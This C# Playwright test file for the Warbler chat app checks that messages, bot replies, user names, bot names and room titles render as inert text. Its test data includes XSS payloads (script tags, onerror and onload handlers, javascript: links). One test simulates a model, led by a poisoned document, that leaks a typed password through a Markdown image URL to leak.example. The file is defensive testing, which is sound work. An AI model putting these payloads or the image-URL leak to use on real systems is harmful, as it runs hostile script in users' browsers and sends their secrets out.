using Microsoft.Playwright;
using Warbler.FakeUpstream;
using static Microsoft.Playwright.Assertions;

namespace Warbler.Web.Tests;

/// <summary>What people and models write is shown, never run.</summary>
[Collection(WebAppCollection.Name)]
public sealed class SafetyTests(WebAppFixture app)
{
    private const string Hostile =
        "Look <script>window.__pwned = 'script'; alert('script')</script> here " +
        "<img src=x onerror=\"window.__pwned='img'; alert('img')\"> " +
        "[click me](javascript:alert('link')) <a href=\"javascript:window.__pwned='a'\">or me</a> " +
        "<iframe src=\"javascript:alert('frame')\"></iframe> <b onmouseover=\"alert('hover')\">bold</b>";

    [ChromiumFact]
    public async Task AMessageWithAScriptTagAndAJavascriptLink_RendersInert()
    {
        var email = WebAppFixture.NewEmail("mal");
        await app.CreateUserAsync(email, "Mallory");
        var page = await app.NewPageAsync();
        var log = BrowserLog.Attach(page);
        var dialogs = new List<string>();
        page.Dialog += async (_, dialog) =>
        {
            dialogs.Add(dialog.Message);
            await dialog.DismissAsync();
        };
        await WebAppFixture.SignInAsync(page, email);
        await page.GetByRole(AriaRole.Button, new() { Name = "+ New chat" }).ClickAsync();
        await page.Locator("button[data-bot-handle=assistant]").ClickAsync();

        // The person writes it, and the bot answers with it too.
        app.Upstream.Default = UpstreamScript.Answer("Echo: " + Hostile);
        var composer = page.GetByLabel("Message", new() { Exact = true });
        await composer.FillAsync(Hostile);
        await composer.PressAsync("Enter");
        var reply = page.Locator(".message.bot").Last;
        await Expect(reply).ToHaveAttributeAsync("data-status", "complete");
        await Expect(reply.Locator(".markdown")).ToContainTextAsync("Echo: Look");

        // The tags are there as the text that was written; only the Markdown link is a link, and it goes nowhere.
        var messages = page.Locator(".messages");
        foreach (var markdown in new[] { page.Locator(".message.mine").Last.Locator(".markdown"), reply.Locator(".markdown") })
        {
            await Expect(markdown).ToContainTextAsync("<script>window.__pwned = 'script'; alert('script')</script> here");
            await Expect(markdown).ToContainTextAsync("<iframe src=\"javascript:alert('frame')\"></iframe> <b onmouseover=\"alert('hover')\">bold</b>");
            await Expect(markdown).ToContainTextAsync("<a href=\"javascript:window.__pwned='a'\">or me</a>");
        }

        await Expect(messages.Locator("a", new() { HasText = "click me" })).ToHaveCountAsync(2);
        await Expect(messages.Locator(".markdown a")).ToHaveCountAsync(2);
        foreach (var link in await messages.Locator(".markdown a").AllAsync())
        {
            await link.HoverAsync();
            await link.ClickAsync(new() { Modifiers = [] });
            var href = await link.GetAttributeAsync("href");
            Assert.True(href is null || !href.TrimStart().StartsWith("javascript:", StringComparison.OrdinalIgnoreCase), $"A link kept href {href}.");
        }

        Assert.Equal(0, await messages.Locator("script, iframe, object, embed, img, b").CountAsync());
        Assert.Equal(0, await messages.Locator("[onerror], [onmouseover], [onclick]").CountAsync());
        Assert.Null(await page.EvaluateAsync<string?>("() => window.__pwned ?? null"));
        Assert.Empty(dialogs);
        log.AssertNoErrors();
        await Artifacts.ScreenshotAsync(page, "inert-message");
        await page.Context.CloseAsync();
    }

    [ChromiumFact]
    public async Task AReplyWithAMarkdownImage_ShowsALinkToIt_AndTheBrowserNeverFetchesIt()
    {
        const string leak = "https://leak.example/pixel.png?q=hunter2";
        var email = WebAppFixture.NewEmail("img");
        await app.CreateUserAsync(email, "Ivy");
        var page = await app.NewPageAsync();
        var fetched = new List<string>();
        page.Request += (_, request) => fetched.Add(request.Url);
        await WebAppFixture.SignInAsync(page, email);
        await page.GetByRole(AriaRole.Button, new() { Name = "+ New chat" }).ClickAsync();
        await page.Locator("button[data-bot-handle=assistant]").ClickAsync();

        // A model led by a poisoned document to put the conversation in an image's address.
        app.Upstream.Default = UpstreamScript.Answer($"Done. ![chart]({leak})");
        var composer = page.GetByLabel("Message", new() { Exact = true });
        await composer.FillAsync("My password is hunter2");
        await composer.PressAsync("Enter");
        var reply = page.Locator(".message.bot").Last;
        await Expect(reply).ToHaveAttributeAsync("data-status", "complete");

        await Expect(reply.Locator(".markdown a", new() { HasText = "chart" })).ToHaveAttributeAsync("href", leak);
        Assert.Equal(0, await page.Locator(".messages img").CountAsync());
        Assert.DoesNotContain(fetched, url => url.StartsWith("https://leak.example", StringComparison.Ordinal));
        await page.Context.CloseAsync();
    }

    [ChromiumFact]
    public async Task RawHtmlInAMessageOrAReply_IsShownAsTheTextTyped_AndMarkdownStillRenders()
    {
        const string typed = "look <img src=x onerror=\"window.__pwned=1\"> here";
        const string edited = "look again <img src=x onerror=\"window.__pwned=2\"> <b>there</b>";
        var email = WebAppFixture.NewEmail("hal");
        await app.CreateUserAsync(email, "Hal");
        var page = await app.NewPageAsync();
        var log = BrowserLog.Attach(page);
        await WebAppFixture.SignInAsync(page, email);
        await page.GetByRole(AriaRole.Button, new() { Name = "+ New chat" }).ClickAsync();
        await page.Locator("button[data-bot-handle=assistant]").ClickAsync();

        // The reply quotes the question and mixes raw HTML into Markdown, streamed in small pieces
        // so that half-written tags pass through the page too.
        app.Upstream.Default = new UpstreamScript { Text = Reply(typed), Chunks = 12, ChunkDelay = TimeSpan.FromMilliseconds(20) };
        var composer = page.GetByLabel("Message", new() { Exact = true });
        await composer.FillAsync(typed);
        await composer.PressAsync("Enter");
        var mine = page.Locator(".message.mine").Last;
        var reply = page.Locator(".message.bot").Last;
        await Expect(reply).ToHaveAttributeAsync("data-status", "complete", new() { Timeout = 20000 });
        await ExpectShownAsTypedAsync(page, mine, reply, typed);
        await Expect(page.Locator(".room-item.active .room-last")).ToContainTextAsync("You said: " + typed);
        await Artifacts.ScreenshotAsync(page, "raw-html-as-text");

        // Read back from the server after a reload, it is the same.
        await page.ReloadAsync();
        await Expect(reply).ToHaveAttributeAsync("data-status", "complete");
        await ExpectShownAsTypedAsync(page, mine, reply, typed);

        // An edit, and the reply it brings, are shown as typed too.
        app.Upstream.Default = UpstreamScript.Answer(Reply(edited));
        await mine.GetByRole(AriaRole.Button, new() { Name = "Edit" }).ClickAsync();
        await Expect(composer).ToHaveValueAsync(typed);
        await composer.FillAsync(edited);
        await composer.PressAsync("Enter");
        await Expect(mine.Locator(".meta")).ToContainTextAsync("edited");
        await Expect(reply.Locator(".markdown p").First).ToHaveTextAsync("You said: " + edited, new() { Timeout = 20000 });
        await Expect(reply).ToHaveAttributeAsync("data-status", "complete", new() { Timeout = 20000 });
        await ExpectShownAsTypedAsync(page, mine, reply, edited);

        Assert.True(await page.EvaluateAsync<bool>("() => typeof window.__pwned === 'undefined'"), "A handler in a message ran.");
        log.AssertNoErrors();
        await page.Context.CloseAsync();
    }

    /// <summary>A bot's answer quoting <paramref name="question"/>, with raw HTML among Markdown.</summary>
    private static string Reply(string question) =>
        $"You said: {question}\n\n" +
        "**Bold** and <b>Bold</b> stays as typed.\n\n" +
        "- first <i>item</i>\n- second\n\n" +
        "| tag | link |\n|---|---|\n| <u>cell</u> | [docs](https://example.com/docs) |\n\n" +
        "```html\n<p onclick=\"go()\">code</p>\n```\n\n" +
        "<div>\n<script>window.__pwned = 3</script>\n</div>";

    private static async Task ExpectShownAsTypedAsync(IPage page, ILocator mine, ILocator reply, string typed)
    {
        await Expect(mine.Locator(".markdown")).ToHaveTextAsync(typed);
        var markdown = reply.Locator(".markdown");
        await Expect(markdown.Locator("p").First).ToHaveTextAsync("You said: " + typed);
        await Expect(markdown.Locator("strong")).ToHaveTextAsync("Bold");
        await Expect(markdown.Locator("p").Nth(1)).ToHaveTextAsync("Bold and <b>Bold</b> stays as typed.");
        await Expect(markdown.Locator("li")).ToHaveTextAsync(["first <i>item</i>", "second"]);
        await Expect(markdown.Locator("td")).ToHaveTextAsync(["<u>cell</u>", "docs"]);
        await Expect(markdown.Locator("td a")).ToHaveAttributeAsync("href", "https://example.com/docs");
        await Expect(markdown.Locator(".code-block pre code")).ToHaveTextAsync("<p onclick=\"go()\">code</p>");
        await Expect(markdown.Locator("p").Last).ToHaveTextAsync("<div><script>window.__pwned = 3</script></div>");

        // Nothing of it became an element: no image, no bold or italic from tags, no script, no handler.
        var messages = page.Locator(".messages");
        Assert.Equal(0, await messages.Locator("img, b, i, u, script, .markdown div:not(.code-block, .code-bar)").CountAsync());
        Assert.Equal(0, await messages.Locator("[onerror], [onclick]").CountAsync());
    }

    [ChromiumFact]
    public async Task NamesAndTitlesWithHtml_AreShownAsText()
    {
        const string userName = "<img src=x onerror=\"window.__pwned='user'\">Mal";
        const string botName = "<script>window.__pwned='bot'</script>Evil bot";
        const string title = "<svg onload=\"window.__pwned='title'\"></svg>Plans";
        var handle = "evil" + Guid.NewGuid().ToString("N")[..6];
        using (var admin = app.CreateClient())
        {
            using var created = await admin.PostAsJsonAsync("/api/bots", new { name = botName, handle, model = "fake-model" });
            Assert.Equal(System.Net.HttpStatusCode.Created, created.StatusCode);
        }

        var victimEmail = WebAppFixture.NewEmail("vic");
        var malloryEmail = WebAppFixture.NewEmail("mal");
        await app.CreateUserAsync(victimEmail, "Victim");
        var mallory = await app.CreateUserAsync(malloryEmail, userName);
        app.Upstream.Default = UpstreamScript.Answer("Plain words.");
        using (var victimApi = await SignedInClientAsync(victimEmail))
        using (var malloryApi = await SignedInClientAsync(malloryEmail))
        {
            using var room = await victimApi.PostAsJsonAsync("/api/rooms", new { kind = "group", title, members = new[] { mallory }, bots = new[] { handle } });
            Assert.Equal(System.Net.HttpStatusCode.Created, room.StatusCode);
            var roomId = (await room.Content.ReadFromJsonAsync<System.Text.Json.JsonElement>()).GetProperty("id").GetGuid();
            using var sent = await malloryApi.PostAsJsonAsync($"/api/rooms/{roomId}/messages", new { text = $"@{handle} hello", clientMessageId = "names-1" });
            Assert.True(sent.IsSuccessStatusCode);
        }

        var page = await app.NewPageAsync();
        var log = BrowserLog.Attach(page);
        var dialogs = new List<string>();
        page.Dialog += async (_, dialog) =>
        {
            dialogs.Add(dialog.Message);
            await dialog.DismissAsync();
        };
        await WebAppFixture.SignInAsync(page, victimEmail);
        await page.GetByText(title).First.ClickAsync();
        await Expect(page.Locator(".message.bot").Last).ToHaveAttributeAsync("data-status", "complete");

        // Each name is there as the very text it is, and nothing of it became an element.
        await Expect(page.GetByText(userName).First).ToBeVisibleAsync();
        await Expect(page.GetByText(botName).First).ToBeVisibleAsync();
        Assert.Equal(0, await page.Locator("body script, body svg[onload], [onerror], [onload]").CountAsync());
        Assert.Null(await page.EvaluateAsync<string?>("() => window.__pwned ?? null"));
        Assert.Empty(dialogs);
        log.AssertNoErrors();
        await Artifacts.ScreenshotAsync(page, "inert-names");
        await page.Context.CloseAsync();
    }

    private async Task<HttpClient> SignedInClientAsync(string email)
    {
        var client = app.CreateClient(key: null);
        using var login = await client.PostAsJsonAsync("/api/auth/login", new { email, password = WebAppFixture.Password });
        login.EnsureSuccessStatusCode();
        var token = (await login.Content.ReadFromJsonAsync<System.Text.Json.JsonElement>()).GetProperty("accessToken").GetString();
        client.DefaultRequestHeaders.Authorization = new("Bearer", token);
        return client;
    }
}
